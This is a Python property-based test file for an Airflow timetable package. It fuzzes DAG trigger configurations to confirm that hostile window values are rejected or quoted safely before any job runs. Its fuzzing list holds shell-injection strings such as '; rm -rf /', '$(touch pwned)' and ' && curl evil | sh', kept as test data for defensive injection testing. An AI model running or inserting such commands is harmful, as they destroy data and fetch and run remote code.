"""Hostile trigger input: whatever ``dag_run.conf`` holds, nothing it says reaches a shell unquoted, and a rejected
window raises before any job code could run.

Whoever may trigger a DAG writes ``conf["hops_window"]``. The operators compute the ``HOPS_*`` values first
(``resolve_hops_env``) and only then run the job; so at the level of these pure rules the guarantees are:

* ``resolve_hops_env`` either raises :class:`HopsWindowError` (and nothing else) or returns only canonical
  ``YYYY-MM-DDTHH:MM:SSZ`` strings for a conf window, never the caller's text;
* the legacy job arguments built from those values, shell-quoted as ``HopsBashOperator`` appends them, come back
  from a real ``bash`` as exactly the same words, also for arbitrary text.

5,000 examples each for the conf and quoting properties; 300 through a real bash process (one fork each).
"""

from __future__ import annotations

import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from airflow.models.dagrun import DagRun
from fuzzing import examples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hops_timetable.core.conf_window import (
    CONF_KEY,
    HopsWindowError,
    resolve_hops_env,
)
from hops_timetable.core.legacy_args import LEGACY_ARG_MODES, legacy_arguments
from hops_timetable.core.window import HOPS_ENV_KEYS
from hops_timetable.operators import HopsBashOperator, HopsPythonOperator

FUZZ = settings(max_examples=examples(2000), deadline=None, suppress_health_check=[HealthCheck.too_slow])
CANONICAL = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z", re.ASCII)
RUN_TYPES = ["scheduled", "backfill", "manual", "asset_triggered", "operator_triggered", None, "SCHEDULED", ""]

VALID_TIMES = [
    "2026-01-01T09:00:00Z",
    "2026-01-01T10:00:00Z",
    "2026-01-01T10:00:00.999999999+02:00",
    "2026-01-01T10:00:00-14:00",
    "1000-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
]
SHELL = [
    "; rm -rf /",
    "$(touch pwned)",
    "`id`",
    "' \"",
    "\n",
    "\r\n",
    "\x00",
    " && curl evil | sh",
    "|| true",
    "$HOME",
    "${IFS}",
    "\\",
    "*",
    "~",
    "#",
    "%s%n",
    "\u2028",
    "٣",
    "Z\u200b",
]


@st.composite
def hostile_text(draw: st.DrawFn) -> str:
    """Mostly near-valid date-times with something shell-like glued on, in or around them."""
    kind = draw(st.integers(0, 3))
    if kind == 0:
        return draw(st.sampled_from(VALID_TIMES))
    if kind == 1:
        base = draw(st.sampled_from(VALID_TIMES))
        cut = draw(st.integers(0, len(base)))
        return base[:cut] + draw(st.sampled_from(SHELL)) + base[cut:]
    if kind == 2:
        return draw(st.sampled_from(SHELL)) * draw(st.integers(1, 3))
    return draw(st.text(max_size=40))


HOSTILE_VALUE = st.one_of(
    hostile_text(),
    hostile_text(),
    hostile_text(),
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.lists(hostile_text(), max_size=2),
    st.dictionaries(st.text(max_size=5), hostile_text(), max_size=2),
)
KEYS = st.sampled_from(["start_time", "end_time", "logical_date", "start_time ", "START_TIME", "$(id)", ""])


@st.composite
def hostile_conf(draw: st.DrawFn) -> Any:
    shape = draw(st.integers(0, 6))
    if shape >= 5:
        # Well-formed windows, so that a good share is accepted and its output checked.
        window = {"start_time": draw(st.sampled_from(VALID_TIMES)), "end_time": draw(st.sampled_from(VALID_TIMES))}
        if draw(st.booleans()):
            window["logical_date"] = draw(st.sampled_from(VALID_TIMES))
        return {CONF_KEY: window}
    if shape == 0:
        return draw(HOSTILE_VALUE)  # not even a mapping
    if shape == 1:
        return {CONF_KEY: draw(HOSTILE_VALUE)}
    window: dict[Any, Any] = {}
    for key in draw(st.lists(KEYS, max_size=4)):
        window[key] = draw(HOSTILE_VALUE)
    if shape >= 3:
        window["start_time"] = draw(hostile_text())
        window["end_time"] = draw(hostile_text())
    return {CONF_KEY: window, "other": draw(HOSTILE_VALUE)}


@FUZZ
@given(conf=hostile_conf(), run_type=st.sampled_from(RUN_TYPES), legacy=st.sampled_from(list(LEGACY_ARG_MODES)))
def test_a_hostile_conf_is_rejected_or_only_canonical_values_come_out(conf: Any, run_type: str, legacy: str) -> None:
    try:
        env = resolve_hops_env(run_type=run_type, data_interval=None, conf=conf, offset_seconds=None, explicit=None)
    except HopsWindowError as error:
        # Rejected: the task fails here, before the operator starts any job code, with a bounded one-line message
        # (one problem: under 400 characters; every bad key reported: at most four shown, the rest counted).
        message = str(error)
        assert message.startswith(f'conf["{CONF_KEY}"]'), message
        limit = 400 if len(error.problems) == 1 else 1000
        assert "\n" not in message and "\r" not in message and len(message) < limit, message
        return
    # A backfill run's window is its scheduled one (none here, without an interval), never its conf's.
    has_window = isinstance(conf, dict) and CONF_KEY in conf and run_type != "backfill"
    assert set(env) == (set(HOPS_ENV_KEYS) if has_window else set()), (conf, env)
    for value in env.values():
        assert CANONICAL.fullmatch(value), value
    arguments = legacy_arguments(legacy, env)  # type: ignore[arg-type]
    for argument in arguments:
        # Each argument is one word a shell leaves alone, quoted or not.
        assert shlex.quote(argument) == argument, argument


def append_like_the_operator(command: str, arguments: list[str]) -> str:
    """The command HopsBashOperator runs: the rendered command, then the shell-quoted job arguments."""
    return f"{command.rstrip()} {shlex.join(arguments)}"


ANY_WORD = st.text(st.characters(exclude_characters="\x00", codec="utf-8", exclude_categories=["Cs"]), max_size=30)


@FUZZ
@given(value=ANY_WORD, legacy=st.sampled_from(list(LEGACY_ARG_MODES)))
def test_quoted_arguments_split_back_into_the_same_words(value: str, legacy: str) -> None:
    # Even a value set by the DAG author, which is not parsed, stays one word after quoting.
    arguments = legacy_arguments(legacy, {"HOPS_LOGICAL_DATE": value})  # type: ignore[arg-type]
    command = append_like_the_operator("python job.py --table events", arguments)
    assert shlex.split(command) == ["python", "job.py", "--table", "events", *arguments]


@settings(max_examples=examples(300), deadline=None)
@given(value=ANY_WORD, legacy=st.sampled_from(list(LEGACY_ARG_MODES)))
def test_a_real_bash_receives_exactly_the_quoted_words(value: str, legacy: str) -> None:
    arguments = legacy_arguments(legacy, {"HOPS_LOGICAL_DATE": value})  # type: ignore[arg-type]
    # printf prints each argument it was given, NUL-terminated: what a job's argv would be.
    command = append_like_the_operator("printf '%s\\0'", arguments)
    result = subprocess.run(["bash", "-c", command], capture_output=True, check=True, timeout=30)
    words = result.stdout.split(b"\0")[:-1]
    assert [word.decode("utf-8", errors="surrogateescape") for word in words] == arguments


# -- the operators themselves: a rejected window stops the task before the job code --------------------------------


class Job:
    """Job code that leaves a trace: the callable counts its calls, the bash command creates a file."""

    def __init__(self, folder: Path) -> None:
        self.calls = 0
        self.marker = folder / "bash-ran"
        self.python = HopsPythonOperator(task_id="python_job", python_callable=self.run, legacy_args="start_time")
        self.bash = HopsBashOperator(
            task_id="bash_job",
            bash_command=f"touch {shlex.quote(str(self.marker))} && true {{{{ hops.legacy_args }}}}",
            legacy_args="start_time",
        )

    def run(self) -> None:
        self.calls += 1


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Job]:
    yield Job(tmp_path_factory.mktemp("hostile-job"))


@settings(max_examples=examples(500), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(conf=hostile_conf(), run_type=st.sampled_from(["scheduled", "manual", "asset_triggered"]))
def test_operators_raise_before_the_job_runs_on_a_rejected_window(job: Job, conf: Any, run_type: str) -> None:
    try:
        resolve_hops_env(run_type=run_type, data_interval=None, conf=conf, offset_seconds=None)
    except HopsWindowError:
        pass
    else:
        return  # an accepted window: running the job is right, and is what the dag.test() tests do
    # A real DagRun row as the task runner hands it over, never stored.
    dag_run = DagRun(dag_id="hostile", run_id="hostile_run", run_type=run_type, conf=conf)
    for operator in (job.python, job.bash):
        with pytest.raises(HopsWindowError):
            operator.execute({"dag_run": dag_run})
    assert job.calls == 0
    assert not job.marker.exists()
